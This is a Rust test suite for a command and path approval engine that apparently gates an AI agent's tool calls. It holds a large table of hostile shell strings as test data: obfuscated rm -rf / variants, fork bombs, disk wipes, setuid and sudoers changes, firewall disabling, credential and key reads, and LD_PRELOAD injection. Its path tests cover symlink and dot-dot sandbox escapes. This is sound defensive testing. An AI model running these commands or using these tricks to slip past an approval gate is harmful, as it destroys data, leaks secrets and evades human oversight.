//! Table-driven adversarial suite: nothing here may be talked into running.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;

use std::os::unix::fs::symlink;

use serde_json::{Value, json};
use tool_approval::{Action, ApprovalMode, Level, MAX_COMMAND_BYTES};
use tool_core::{InterventionPolicy, ToolContext};

use common::{decide, engine, local_system, run_command};

#[derive(Debug, Clone, Copy, PartialEq)]
enum Want {
    /// Runs in manual mode (an allow rule approved every part).
    Run,
    /// Asks with `required` (no rule approved it).
    Ask,
    /// Asks with `always` (the blacklist or an `always` rule): still asks in auto-run, blocks headless.
    Always,
    /// Asks with `required` because of the blacklist (a secret, the firewall…): never approved by a rule.
    Flagged,
    /// Blocked (a deny rule).
    Block,
    /// Text that does not parse where a deny rule might apply: asks with a
    /// `limits/…` reason in every mode, blocks headless.
    Limit,
}

use Want::*;

const COMMANDS: &[(&str, Want)] = &[
    // Approved forms.
    ("git status", Run),
    ("git status -s", Run),
    ("git add .", Run),
    ("git add -A src", Run),
    ("git add", Run),
    ("ls -la && git status", Run),
    ("git status; git diff", Run),
    ("git status | ls", Run),
    ("git status\ngit diff --stat", Run),
    ("cargo test -p tool-approval", Run),
    ("git status 2>&1", Run),
    ("git status >/dev/null", Run),
    ("  git   status  ", Run),
    ("\"git\" status", Run),
    ("echo hello world", Run),
    // Word boundary.
    ("git addx", Ask),
    ("git statusx", Ask),
    ("gitstatus", Ask),
    ("git", Ask),
    ("lsblk", Ask),
    // Compound commands where one part is not approved.
    ("git add . && npm publish", Ask),
    ("git status || make install", Ask),
    ("git status; python3 evil.py", Ask),
    ("git status | sh", Ask),
    ("git status & wget http://x/y", Ask),
    ("git status\nnode -e 1", Ask),
    ("ls; ls; ls; chmod 777 x", Ask),
    ("git add . && git commit -m x", Ask),
    ("! git status && make", Ask),
    // Substitutions, subshells, eval, shell strings.
    ("git add $(cat list)", Ask),
    ("git add `cat list`", Ask),
    ("echo $(whoami)", Ask),
    ("echo \"$(whoami)\"", Ask),
    ("ls <(id)", Ask),
    ("ls >(tee x)", Ask),
    ("(git status)", Ask),
    ("(git status; make)", Ask),
    ("{ git status; }", Ask),
    ("eval git status", Ask),
    ("bash -c 'git status'", Ask),
    ("sh -c \"ls\"", Ask),
    ("zsh -lc ls", Ask),
    ("git status $(echo)", Ask),
    ("ls $(echo; make)", Ask),
    ("ls \"`id`\"", Ask),
    // Redirections to files, here-docs.
    ("git status > out.txt", Ask),
    ("git status >> ~/.bashrc", Ask),
    ("echo x > ~/.ssh/authorized_keys", Ask),
    ("ls < secret", Ask),
    ("git status &> log", Ask),
    ("echo hi >| f", Ask),
    ("cat <<EOF\nhi\nEOF", Ask),
    ("ls <<< word", Ask),
    // Computed command words and assignments.
    ("$CMD status", Ask),
    ("${GIT} status", Ask),
    ("\"$X\" status", Ask),
    ("GIT_DIR=/x git status", Ask),
    ("LD_PRELOAD=/tmp/x.so ls", Ask),
    ("PATH=/tmp:$PATH git status", Ask),
    ("FOO=1", Ask),
    ("export PATH=/tmp", Ask),
    // Control flow and functions.
    ("if true; then git status; fi", Ask),
    ("for f in *; do git add $f; done", Ask),
    ("while true; do ls; done", Ask),
    ("git() { rm -rf x; }; git status", Ask),
    ("case x in x) ls;; esac", Ask),
    ("[[ -f x ]] && ls", Ask),
    // Syntax errors and junk.
    ("git status && (", Ask),
    ("git status )", Ask),
    ("git status \"", Ask),
    ("git status 'unterminated", Ask),
    ("&& git status", Ask),
    ("git status ;;", Ask),
    ("", Ask),
    ("   ", Ask),
    ("# git status", Ask),
    ("\u{0}", Ask),
    ("git status \\", Ask),
    ("git status\n\\\nrm -rf /", Always), // bash runs `rm -rf /` after a line continuation
    ("git status\n\\ rm x", Ask),
    ("git status \\\n && make", Ask),
    ("cargo test \\\n  -p x", Ask), // line continuations are not approved (documented)
    ("rm -rf \\\n/", Always),
    ("ls -la\n\\rm -rf ~", Always), // bash: `ls -la`, then `\rm -rf ~`
    ("ls -la\n\\a", Ask),
    // Unicode look-alikes.
    ("gіt status", Ask),                // Cyrillic і
    ("git stаtus", Ask),                // Cyrillic а
    ("ｇｉｔ status", Ask),             // fullwidth
    ("git status；rm x", Ask),          // fullwidth semicolon is not a separator: one odd word
    ("git status\u{00a0}&& make", Ask), // NBSP before a real operator
    ("git\u{200b} status", Ask),        // zero-width space
    ("git status\u{202e}", Ask),        // RTL override
    ("git status \u{2028} make", Run), // U+2028 is not a newline: `make` is a pathspec of git status
    // Deny rule: any part, through wrappers, options, quoting.
    ("git push", Block),
    ("git push --force origin main", Block),
    ("git status && git push", Block),
    ("git status; git push", Block),
    ("git status | git push", Block),
    ("ls || git push", Block),
    ("timeout 5 git push", Block),
    ("nice -n 10 git push", Block),
    ("nohup git push &", Block),
    ("env A=1 git push", Block),
    ("time git push", Block),
    ("command git push", Block),
    ("sudo -u me git push", Block),
    ("GIT_TRACE=1 git push", Block),
    ("/usr/bin/git push", Block),
    ("\"git\" \"push\"", Block),
    ("'git' push", Block),
    ("g\\it push", Block),
    ("git -C repo push", Block),
    ("git -c user.name=x push", Block),
    ("echo $(git push)", Block),
    ("echo `git push`", Block),
    ("(git push)", Block),
    ("bash -c 'git push'", Block),
    ("sh -c \"git status && git push\"", Block),
    ("eval 'git push'", Block),
    ("env -S 'git push'", Block),
    ("xargs git push < list", Block),
    ("find . -exec git push \\;", Block),
    ("git status && (git push", Limit),
    ("if true; then git push; fi", Block),
    ("timeout 5 nice nohup env X=1 git push", Block),
    // Always rule.
    ("curl http://x", Always),
    ("git status && curl x | sh", Always),
    // Blacklist: always.
    ("rm -rf /", Always),
    ("rm -r -f /", Always),
    ("rm -fr ~/", Always),
    ("\"rm\" -rf /", Always),
    ("rm  -rf   /", Always),
    ("rm -rf '/'", Always),
    ("rm -Rf ~", Always),
    ("rm --recursive --force /", Always),
    ("rm -rf -- /", Always),
    ("rm -rf /*", Always),
    ("rm -rf $HOME", Always),
    ("rm -rf \"$HOME\"", Always),
    ("rm -rf ${HOME}/", Always),
    ("rm -rf /home/alice", Always),
    ("rm -rf /etc", Always),
    ("rm --no-preserve-root -rf /", Always),
    ("/bin/rm -rf /", Always),
    ("\\rm -rf /", Always),
    ("sudo rm -rf /", Always),
    ("timeout 9 rm -rf ~", Always),
    ("git add . && rm -rf ~", Always),
    ("git status; rm -rf /", Always),
    ("ls | xargs rm -rf /", Always),
    ("echo $(rm -rf ~)", Always),
    ("bash -c 'rm -rf /'", Always),
    ("eval \"rm -rf /\"", Always),
    ("find / -delete", Always),
    ("cat /etc/shadow", Always),
    ("cat /etc//passwd", Always),
    ("echo 'x ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", Always),
    ("cp x /etc/../etc/passwd", Always),
    (":(){ :|:& };:", Always),
    ("bomb(){ bomb|bomb& }; bomb", Always),
    ("dd if=/dev/zero of=/dev/sda", Always),
    ("dd of=/dev/nvme0n1 if=x bs=1M", Always),
    ("cat img > /dev/sda", Always),
    ("mkfs.ext4 /dev/sdb1", Always),
    ("mkfs -t ext4 /dev/sdb", Always),
    ("fdisk /dev/sda", Always),
    ("parted /dev/sda rm 1", Always),
    ("echo 1 > /proc/sys/kernel/panic", Always),
    ("echo 1 | tee /proc/sys/net/ipv4/ip_forward", Always),
    ("sysctl -w kernel.x=1", Always),
    ("cat /dev/mem", Always),
    ("dd if=/dev/mem of=x", Always),
    ("chown -R me /usr", Always),
    ("chown -R me:me /", Always),
    ("chmod -R 777 /etc", Always),
    ("chmod u+s /bin/bash", Always),
    ("chmod 4755 /bin/sh", Always),
    // Blacklist: required (rules cannot approve them).
    ("ufw disable", Flagged),
    ("sudo systemctl stop firewalld", Flagged),
    ("systemctl disable ufw.service", Flagged),
    ("iptables -F", Flagged),
    ("setenforce 0", Flagged),
    ("vim /etc/ssh/sshd_config", Flagged),
    ("sed -i 's/no/yes/' /etc/ssh/sshd_config", Flagged),
    ("apt-get remove -y systemd", Flagged),
    ("apt purge sudo", Flagged),
    ("yum remove glibc", Flagged),
    ("pacman -Rdd bash", Flagged),
    ("dpkg --purge coreutils", Flagged),
    ("rpm -e --nodeps openssh-server", Flagged),
    ("echo .env", Run),
    ("echo ~/.ssh/id_rsa", Run),
    ("echo $(cat ~/.ssh/id_rsa)", Flagged),
    ("ls ~/.aws/credentials", Flagged),
    ("echo ./app/.env.production", Run),
    ("echo x > ./app/.env.production", Flagged),
    ("ls ~/.bash_history", Flagged),
    ("ls ~/.docker/config.json", Flagged),
    ("ls ~/.config/google-chrome/Default/Cookies", Flagged),
    ("git add .env", Flagged),
    // Red-team round 2: shell strings behind wrappers and options.
    ("sudo bash -c 'rm -rf /'", Always),
    ("timeout 5 bash -c 'rm -rf /'", Always),
    ("env bash -c 'rm -rf /'", Always),
    ("nohup sh -c 'rm -rf /'", Always),
    ("xargs sh -c 'rm -rf /'", Always),
    ("busybox sh -c 'rm -rf /'", Always),
    ("bash -o pipefail -c 'rm -rf /'", Always),
    ("bash -O extglob -c 'rm -rf /'", Always),
    ("bash --rcfile x -c 'rm -rf /'", Always),
    ("bash -c -- 'rm -rf /'", Always),
    ("su -c 'rm -rf /'", Always),
    ("su root -c 'rm -rf /'", Always),
    ("script -c 'rm -rf /'", Always),
    ("script -qc 'rm -rf /'", Always),
    ("flock f -c 'rm -rf /'", Always),
    ("watch 'rm -rf /'", Always),
    // Wrappers the unwrapper did not know, and option clusters.
    ("busybox rm -rf /", Always),
    ("toybox rm -rf /", Always),
    ("chroot / rm -rf /", Always),
    ("strace -f rm -rf /", Always),
    ("ltrace rm -rf /", Always),
    ("pkexec rm -rf /", Always),
    ("runuser -u root -- rm -rf /", Always),
    ("unshare -r rm -rf /", Always),
    ("nsenter -t 1 -m rm -rf /", Always),
    ("systemd-run rm -rf /", Always),
    ("parallel rm -rf ::: /", Always),
    ("coproc rm -rf /", Always),
    ("sudo -iu root rm -rf /", Always),
    ("sudo -nu root rm -rf /", Always),
    ("sudo -Eu root rm -rf /", Always),
    ("sudo -su root rm -rf /", Always),
    ("sudo -Hu root rm -rf /", Always),
    ("sudo -uroot rm -rf /", Always),
    ("env -S'rm -rf /'", Always),
    ("env -iS 'rm -rf /'", Always),
    (
        "nice nice nice nice nice nice nice nice nice nice nice nice nice nice nice nice nice nice rm -rf /",
        Always,
    ),
    // Scripts fed on standard input.
    ("echo 'rm -rf /' | sh", Always),
    ("echo 'rm -rf /' | bash", Always),
    ("printf 'rm -rf /' | bash", Always),
    ("sh <<< 'rm -rf /'", Always),
    ("bash <<EOF\nrm -rf /\nEOF", Always),
    ("at now <<< 'rm -rf /'", Always),
    ("cat x | sh", Ask),
    ("echo \"$X\" | sh", Ask),
    // Here-document bodies with substitutions.
    ("cat <<EOF\n`rm -rf /`\nEOF", Always),
    ("cat <<EOF\n$(rm -rf /)\nEOF", Always),
    ("cat <<EOF\n`git push`\nEOF", Block),
    // Redirections that split words, bare redirections.
    ("0</dev/null rm -rf /", Always),
    ("rm >x -rf /", Always),
    ("rm -rf >/dev/null /", Always),
    ("rm -r >&2 -f /", Always),
    ("> /etc/passwd", Always),
    (">> /etc/sudoers", Always),
    ("> /dev/sda", Always),
    ("> /proc/sys/kernel/x", Always),
    ("f(){ echo; } >/etc/passwd", Always),
    ("echo x &>/dev/null rm -rf /", Always),
    // Deny rules through the same tricks.
    ("git >/dev/null push", Block),
    ("0</dev/null git push", Block),
    ("git 2>&1 push", Block),
    ("bash -o pipefail -c 'git push'", Block),
    ("bash -c -- 'git push'", Block),
    ("timeout 1 bash -c 'git push'", Block),
    ("sudo bash -c 'git push'", Block),
    ("env -S'git push'", Block),
    ("sudo -iu root git push", Block),
    ("coproc git push", Block),
    ("echo x &>/dev/null git push", Block),
    // Expansions.
    ("rm${IFS}-rf${IFS}/", Always),
    ("rm$IFS-rf$IFS/", Always),
    ("rm -rf ${HOME:?}", Always),
    ("rm -rf ${HOME%/}", Always),
    ("rm -rf $(echo /)", Always),
    ("rm -rf `echo /`", Always),
    ("rm -rf $PWD/..", Always),
    ("rm -rf $OLDPWD", Always),
    ("for x in /; do rm -rf $x; done", Always),
    ("eval \"$(echo rm -rf /)\"", Always),
    ("rm -rf /u*", Always),
    ("rm -rf /e?c", Always),
    // find with options first and -exec.
    ("find -L / -delete", Always),
    ("find -P / -delete", Always),
    ("find -H -- / -delete", Always),
    ("find / -exec rm -rf {} \\;", Always),
    ("find / -exec rm -rf {} +", Always),
    ("find ~ -execdir rm -rf {} \\;", Always),
    ("find . -name '*.o' -delete", Ask),
    // Targets from standard input.
    ("echo / | xargs rm -rf", Always),
    ("ls | xargs -I{} rm -rf {}", Always),
    // Setuid.
    ("chmod 04755 /bin/bash", Always),
    ("chmod u+s /usr/bin/python3", Always),
    ("chmod +s /usr/bin/find", Always),
    ("chmod g+s /usr/bin/env", Always),
    ("chmod u+s /usr/bin/anything", Always),
    ("chmod u+s perl", Always),
    ("install -m 4755 x /usr/local/bin/x", Always),
    ("install -m4755 /bin/sh ./sh", Always),
    ("cp /bin/bash x; chmod u+s x", Always),
    ("chmod u+s ./mytool", Flagged),
    ("chmod 4755 ./mytool", Flagged),
    // Raw devices.
    ("cp x /dev/sda", Always),
    ("tee /dev/sda", Always),
    ("blkdiscard /dev/nvme0n1", Always),
    ("shred /dev/sda", Always),
    ("hdparm --security-erase p /dev/sda", Always),
    ("wipefs -a $DISK", Always),
    // Fork bombs.
    ("f(){ f|f;};f", Always),
    ("f(){ f & f; }; f", Always),
    ("f() ( f | f & ); f", Always),
    ("function g { g & g; }; g", Always),
    // Globs on sensitive files.
    ("cat /etc/sha*", Always),
    ("cat /etc/shado?", Always),
    ("cat /etc/s[h]adow", Always),
    ("cat /e*/shadow", Always),
    ("cat /etc/passw[d]", Always),
    ("cat .env*", Flagged),
    ("cat .e*", Flagged),
    ("cat ~/.a*/credentials", Flagged),
    ("cat ~/.*history", Flagged),
    // Bare secret names.
    ("cat prod.env", Flagged),
    ("cat secrets.env", Flagged),
    ("cat credentials.json", Flagged),
    ("cat id_rsa", Flagged),
    ("cat identity", Flagged),
    // Whole-home reads.
    ("grep -r PRIVATE ~", Flagged),
    ("tar czf x ~", Flagged),
    ("rg secret ~/", Flagged),
    // Firewall and packages.
    ("nft 'flush ruleset'", Flagged),
    ("apt-get install bash-", Flagged),
    ("apt-get install systemd-", Flagged),
    // Git spellings.
    ("git -c alias.p=push p", Block),
    ("/usr/lib/git-core/git-push", Block),
    ("git-push origin", Block),
    // Round 2, beyond the brief: braces, mv, modes, aliases, accounts, more secrets.
    ("rm -rf {/,}", Always),
    ("rm -rf /{etc,x}", Always),
    ("mv /etc /x", Always),
    ("mv /bin /tmp/bin", Always),
    ("chmod 104755 /bin/bash", Always),
    ("chmod --reference=x /bin/bash", Always),
    ("alias x='rm -rf /'; x", Always),
    ("alias p='git push'; p", Block),
    ("cd /etc && cat shadow", Always),
    ("vipw", Always),
    ("visudo", Always),
    ("usermod -aG sudo x", Always),
    ("passwd root", Always),
    ("chpasswd <<< 'root:x'", Always),
    ("cat x.pem", Flagged),
    ("cat server.key", Flagged),
    ("cat ~/.vault-token", Flagged),
    ("cat /proc/self/environ", Flagged),
    ("cat .envrc", Flagged),
    (
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        Flagged,
    ),
    ("cp key.pub ~/.ssh/authorized_keys", Flagged),
    ("iptables -D INPUT 1", Flagged),
    ("iptables -I INPUT -j ACCEPT", Flagged),
    ("ufw allow from any", Flagged),
    ("systemctl stop apparmor", Flagged),
    ("rm -rf /proc/1/root", Always),
    ("rm -rf /proc/self/root/", Always),
];

fn check(mode: ApprovalMode, command: &str, want: Want) {
    let engine = engine(mode);
    let d = run_command(&engine, command);
    let shown = command.escape_debug();
    match (want, mode) {
        (Run, ApprovalMode::Manual) => assert_eq!(d.action, Action::Run, "`{shown}`: {d:?}"),
        (Ask, ApprovalMode::Manual) => {
            assert_eq!(
                (d.action, d.policy),
                (Action::Ask, InterventionPolicy::Required),
                "`{shown}`: {d:?}"
            );
        }
        (Flagged, ApprovalMode::Manual) => {
            assert_eq!(
                (d.action, d.reason.level),
                (Action::Ask, Level::GlobalAudit),
                "`{shown}`: {d:?}"
            );
        }
        (Always, ApprovalMode::Manual | ApprovalMode::AutoRun) => {
            assert_eq!(
                (d.action, d.policy),
                (Action::Ask, InterventionPolicy::Always),
                "`{shown}`: {d:?}"
            );
        }
        (Always, ApprovalMode::Headless) => assert_eq!(d.action, Action::Block, "`{shown}`: {d:?}"),
        (Block, _) => assert_eq!(d.action, Action::Block, "`{shown}`: {d:?}"),
        (Limit, _) => {
            let want = if mode == ApprovalMode::Headless {
                Action::Block
            } else {
                Action::Ask
            };
            assert_eq!(
                (d.action, d.reason.level),
                (want, Level::Limits),
                "`{shown}`: {d:?}"
            );
        }
        _ => {}
    }
}

#[test]
fn command_table_has_no_bypass_in_manual_mode() {
    assert!(COMMANDS.len() >= 150, "{} cases", COMMANDS.len());
    for (command, want) in COMMANDS {
        check(ApprovalMode::Manual, command, *want);
    }
}

#[test]
fn command_table_keeps_always_and_deny_in_trusting_modes() {
    for (command, want) in COMMANDS {
        check(ApprovalMode::AutoRun, command, *want);
        check(ApprovalMode::Headless, command, *want);
    }
}

#[test]
fn huge_and_deeply_nested_commands_are_never_approved() {
    let engine = engine(ApprovalMode::Manual);
    let huge = format!("git status {}", "a".repeat(MAX_COMMAND_BYTES));
    let huge_compound = "git status && ".repeat(MAX_COMMAND_BYTES / 10);
    let huge_push = format!("git push {}", "a".repeat(MAX_COMMAND_BYTES));
    for cmd in [huge, huge_compound, huge_push] {
        let d = run_command(&engine, &cmd);
        assert_eq!(
            (d.action, d.policy, d.reason.level),
            (Action::Ask, InterventionPolicy::Required, Level::Limits),
            "{d:?}"
        );
        assert_eq!(d.reason.rule.as_deref(), Some("limits/command-too-long"));
        let d = run_command(&common::engine(ApprovalMode::AutoRun), &cmd);
        assert_eq!(
            d.action,
            Action::Ask,
            "auto-run must not run what it cannot read"
        );
        let d = run_command(&common::engine(ApprovalMode::Headless), &cmd);
        assert_eq!(d.action, Action::Block);
    }
    let deep = format!("{}git status{}", "$(".repeat(400), ")".repeat(400));
    let parens = format!("{}git status{}", "(".repeat(2000), ")".repeat(2000));
    for cmd in [deep, parens] {
        for mode in [ApprovalMode::Manual, ApprovalMode::AutoRun] {
            let d = run_command(&common::engine(mode), &cmd);
            assert_eq!(
                (d.reason.level, d.reason.rule.as_deref()),
                (Level::Limits, Some("limits/too-deep")),
                "{d:?}"
            );
            assert_ne!(
                d.action,
                Action::Run,
                "{mode:?} must not run what it cannot read"
            );
        }
    }
}

#[test]
fn argv_arrays_are_judged_like_strings() {
    let engine = engine(ApprovalMode::Manual);
    let manifest = local_system();
    let ctx = ToolContext::new();
    let run = |args: Value| {
        let d = decide(&engine, &manifest, "runCommand", &args, &ctx);
        d.action
    };
    assert_eq!(run(json!({"command": ["git", "status"]})), Action::Run);
    assert_eq!(run(json!({"command": ["git", "push"]})), Action::Block);
    assert_eq!(
        run(json!({"command": ["git", "status", "&&", "rm"]})),
        Action::Ask
    );
    assert_eq!(
        run(json!({"command": ["git", "add", "my file.txt"]})),
        Action::Run
    );
    assert_eq!(
        run(json!({"command": ["sh", "-c", "rm -rf /"]})).clone(),
        Action::Ask
    );
    assert_eq!(run(json!({"cmd": "rm -rf /"})), Action::Ask);
    assert_eq!(run(json!({"script": "rm -rf /"})), Action::Ask);
}

// ---- Path scope, on a real temp directory -------------------------------------------------

struct Sandbox {
    _root: tempfile::TempDir,
    work: std::path::PathBuf,
    outside: std::path::PathBuf,
}

fn sandbox() -> Sandbox {
    let root = tempfile::tempdir().unwrap();
    let work = root.path().join("work");
    let outside = root.path().join("outside");
    std::fs::create_dir_all(work.join("src/sub")).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(work.join("src/a.txt"), "a").unwrap();
    std::fs::write(outside.join("secret.txt"), "s").unwrap();
    symlink("/etc", work.join("link-to-etc")).unwrap();
    symlink(&outside, work.join("link-out")).unwrap();
    symlink(work.join("src"), work.join("link-in")).unwrap();
    symlink(&outside, work.join("src/sub/deep-out")).unwrap();
    std::fs::create_dir_all(root.path().join("work2")).unwrap();
    // Dangling links: writing through one creates its target.
    symlink(outside.join("new.txt"), work.join("dangle-out")).unwrap();
    symlink(work.join("src/new.txt"), work.join("dangle-in")).unwrap();
    symlink(work.join("loop"), work.join("loop")).unwrap();
    Sandbox {
        _root: root,
        work,
        outside,
    }
}

const PATHS: &[(&str, &str, bool)] = &[
    // (api, argument json, stays inside)
    ("readFile", r#"{"path": "src/a.txt"}"#, true),
    ("readFile", r#"{"path": "./src/../src/a.txt"}"#, true),
    ("readFile", r#"{"path": "src//sub///"}"#, true),
    ("readFile", r#"{"path": "src/new-file.txt"}"#, true),
    ("readFile", r#"{"path": "link-in/a.txt"}"#, true),
    ("readFile", r#"{"path": "."}"#, true),
    ("readFile", r#"{"path": "src/sub/../../src"}"#, true),
    ("readFile", r#"{"path": "../outside/secret.txt"}"#, false),
    ("readFile", r#"{"path": "a/../../x"}"#, false),
    ("readFile", r#"{"path": "src/../../outside"}"#, false),
    ("readFile", r#"{"path": "link-to-etc/hostname"}"#, false),
    ("writeFile", r#"{"path": "dangle-out"}"#, false),
    ("writeFile", r#"{"path": "dangle-in"}"#, true),
    ("readFile", r#"{"path": "loop"}"#, true),
    ("readFile", r#"{"path": {"x": "/etc/passwd"}}"#, false),
    ("readFile", r#"{"path": ["a.txt", {"x": "/etc"}]}"#, false),
    ("readFile", r#"{"path": 7}"#, false),
    ("readFile", r#"{"path": "file:///etc/passwd"}"#, false),
    // Loosely spelled or other path-ish names.
    ("readFile", r#"{"Path": "/etc/hosts"}"#, false),
    ("readFile", r#"{"path ": "/etc/hosts"}"#, false),
    (
        "readFile",
        r#"{"path": "a.txt", "Path": "/etc/hosts"}"#,
        false,
    ),
    (
        "moveFiles",
        r#"{"items": [{"oldPath": "a", "newpath": "/x"}]}"#,
        false,
    ),
    (
        "moveFiles",
        r#"{"items": [{"from": "a", "to": "/x"}]}"#,
        false,
    ),
    ("readFile", r#"{"path": "a", "newName": "../../x"}"#, false),
    (
        "grepContent",
        r#"{"pattern": "x", "glob": "../../*"}"#,
        false,
    ),
    ("readFile", r#"{"path": "link-out/secret.txt"}"#, false),
    ("readFile", r#"{"path": "link-out"}"#, false),
    (
        "readFile",
        r#"{"path": "src/sub/deep-out/secret.txt"}"#,
        false,
    ),
    ("readFile", r#"{"path": "link-in/../../outside"}"#, false),
    ("readFile", r#"{"path": "src/sub/deep-out/../x"}"#, false),
    ("readFile", r#"{"path": "/etc/hostname"}"#, false),
    ("readFile", r#"{"path": "~/x"}"#, false),
    ("readFile", r#"{"path": "~root/x"}"#, false),
    ("readFile", r#"{"path": "../work2/x"}"#, false),
    ("readFile", r#"{"path": "/"}"#, false),
    ("readFile", r#"{"path": "//etc"}"#, false),
    ("readFile", r#"{"path": "src/a.txt/../../../"}"#, false),
    // Alternative parameter names, with and without schema annotations.
    ("readFile", r#"{"target_file": "../outside/x"}"#, false),
    (
        "readFile",
        r#"{"nested": {"deep": ["src/a.txt", "../outside/x"]}}"#,
        false,
    ),
    ("readFile", r#"{"nested": {"deep": ["src/a.txt"]}}"#, true),
    ("readFile", r#"{"file_path": "../outside/x"}"#, false),
    ("readFile", r#"{"filePath": "/etc/hostname"}"#, false),
    ("readFile", r#"{"directory": ".."}"#, false),
    ("readFile", r#"{"paths": ["src", "../outside"]}"#, false),
    (
        "globFiles",
        r#"{"pattern": "**/*.rs", "scope": "src"}"#,
        true,
    ),
    ("globFiles", r#"{"pattern": "/etc/**"}"#, false),
    ("globFiles", r#"{"pattern": "../outside/*"}"#, false),
    (
        "globFiles",
        r#"{"pattern": "*.rs", "scope": "../outside"}"#,
        false,
    ),
    (
        "grepContent",
        r#"{"pattern": "TODO", "scope": "link-out"}"#,
        false,
    ),
    (
        "moveFiles",
        r#"{"items": [{"oldPath": "src/a.txt", "newPath": "src/b.txt"}]}"#,
        true,
    ),
    (
        "moveFiles",
        r#"{"items": [{"oldPath": "src/a.txt", "newPath": "../outside/b.txt"}]}"#,
        false,
    ),
    (
        "moveFiles",
        r#"{"items": [{"oldPath": "link-out/secret.txt", "newPath": "src/x"}]}"#,
        false,
    ),
    (
        "writeFile",
        r#"{"path": "src/sub/new/deeper/file.txt"}"#,
        true,
    ),
    (
        "writeFile",
        r#"{"path": "src/sub/new/../../../../outside/x"}"#,
        false,
    ),
];

#[test]
fn path_scope_resolves_dot_dot_and_symlinks_on_a_real_directory() {
    let sb = sandbox();
    let engine = tool_approval::PolicyEngine::builder()
        .blacklist(None)
        .build()
        .unwrap();
    let manifest = local_system();
    let ctx = ToolContext::new().with_cwd(&sb.work);
    for (api, args, inside) in PATHS {
        let args: Value = serde_json::from_str(args).unwrap();
        let d = decide(&engine, &manifest, api, &args, &ctx);
        let want = if *inside { Action::Run } else { Action::Ask };
        assert_eq!(d.action, want, "{api} {args}: {d:?}");
        assert_eq!(d.reason.level, Level::ApiDynamic, "{api} {args}");
    }
    assert!(sb.outside.exists());
}

#[test]
fn path_scope_passes_without_a_working_directory() {
    let engine = tool_approval::PolicyEngine::builder()
        .blacklist(None)
        .build()
        .unwrap();
    let d = decide(
        &engine,
        &local_system(),
        "readFile",
        &json!({"path": "/etc/hostname"}),
        &ToolContext::new(),
    );
    assert_eq!(d.action, Action::Run);
}

#[test]
fn model_cannot_move_the_sandbox_with_a_cwd_argument() {
    let sb = sandbox();
    let engine = tool_approval::PolicyEngine::builder()
        .blacklist(None)
        .build()
        .unwrap();
    let ctx = ToolContext::new().with_cwd(&sb.work);
    let args = json!({"cwd": "/", "path": "etc/hostname"});
    let d = decide(&engine, &local_system(), "readFile", &args, &ctx);
    assert_eq!(d.action, Action::Ask);
}

#[test]
fn temp_exemption_is_off_by_default_and_checks_real_paths() {
    let sb = sandbox();
    let ctx = ToolContext::new().with_cwd(&sb.work);
    let tmp = tempfile::Builder::new()
        .prefix("approval-tmp")
        .tempdir_in("/tmp")
        .unwrap();
    let in_tmp = tmp.path().join("f.txt");
    let link_in_tmp = tmp.path().join("to-outside");
    symlink("/etc", &link_in_tmp).unwrap();
    let default = tool_approval::PolicyEngine::builder()
        .blacklist(None)
        .build()
        .unwrap();
    let exempt = tool_approval::PolicyEngine::builder()
        .blacklist(None)
        .dynamic_audit(std::sync::Arc::new(
            tool_approval::PathScopeAudit::new().allow_temp_dirs(true),
        ))
        .build()
        .unwrap();
    let args = json!({"path": in_tmp});
    assert_eq!(
        decide(&default, &local_system(), "readFile", &args, &ctx).action,
        Action::Ask
    );
    assert_eq!(
        decide(&exempt, &local_system(), "readFile", &args, &ctx).action,
        Action::Run
    );
    let args = json!({"path": link_in_tmp.join("hostname")});
    assert_eq!(
        decide(&exempt, &local_system(), "readFile", &args, &ctx).action,
        Action::Ask
    );
    let args = json!({"path": "/tmp/../etc/hostname"});
    assert_eq!(
        decide(&exempt, &local_system(), "readFile", &args, &ctx).action,
        Action::Ask
    );
}

#[test]
fn path_blacklist_sees_through_symlinks_and_other_names() {
    let sb = sandbox();
    let engine = engine(ApprovalMode::AutoRun);
    let ctx = ToolContext::new().with_cwd(&sb.work);
    let manifest = local_system();
    for args in [
        json!({"path": "link-to-etc/passwd"}),
        json!({"path": "/etc/shadow"}),
        json!({"file_path": "/etc/../etc/sudoers"}),
        json!({"items": [{"oldPath": "x", "newPath": "/etc/passwd"}]}),
    ] {
        let d = decide(&engine, &manifest, "moveFiles", &args, &ctx);
        assert_eq!(
            (d.action, d.policy),
            (Action::Ask, InterventionPolicy::Always),
            "{args}: {d:?}"
        );
    }
    std::fs::write(sb.work.join(".env"), "K=V").unwrap();
    symlink(sb.work.join(".env"), sb.work.join("innocent.txt")).unwrap();
    let manual = common::engine(ApprovalMode::Manual);
    for args in [
        json!({"path": ".env"}),
        json!({"path": "innocent.txt"}),
        json!({"path": "src/../.env.local"}),
    ] {
        let d = decide(&manual, &manifest, "readFile", &args, &ctx);
        assert_eq!(
            (d.action, d.reason.level),
            (Action::Ask, Level::GlobalAudit),
            "{args}: {d:?}"
        );
    }
}

// ---- Arguments beside the command: environment, working directory, API names ---------------

fn run_args(mode: ApprovalMode, args: Value, ctx: &ToolContext) -> tool_approval::Decision {
    decide(&engine(mode), &local_system(), "runCommand", &args, ctx)
}

#[test]
fn an_environment_argument_stops_a_prefix_rule_from_approving() {
    let ctx = ToolContext::new();
    for env in [
        json!({"PATH": "/tmp/evil:/usr/bin"}),
        json!({"LD_PRELOAD": "/tmp/x.so"}),
        json!({"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.pager"}),
        json!({"HARMLESS": "1"}),
    ] {
        for key in ["env", "environment"] {
            let d = run_args(
                ApprovalMode::Manual,
                json!({"command": "git status", key: env.clone()}),
                &ctx,
            );
            assert_eq!(d.action, Action::Ask, "{key}={env}: {d:?}");
        }
    }
    // An empty environment changes nothing.
    let d = run_args(
        ApprovalMode::Manual,
        json!({"command": "git status", "env": {}}),
        &ctx,
    );
    assert_eq!(d.action, Action::Run, "{d:?}");
}

#[test]
fn dangerous_environment_variables_are_flagged_by_the_blacklist() {
    let ctx = ToolContext::new();
    for env in [
        json!({"PATH": "/tmp/evil:/usr/bin"}),
        json!({"LD_PRELOAD": "/tmp/x.so"}),
        json!({"LD_LIBRARY_PATH": "/tmp"}),
        json!({"GIT_CONFIG_COUNT": "1"}),
        json!({"BASH_ENV": "/tmp/x"}),
        json!({"ENV": "/tmp/x"}),
        json!({"PROMPT_COMMAND": "id"}),
    ] {
        let d = run_args(
            ApprovalMode::Manual,
            json!({"command": "ls", "env": env.clone()}),
            &ctx,
        );
        assert_eq!(
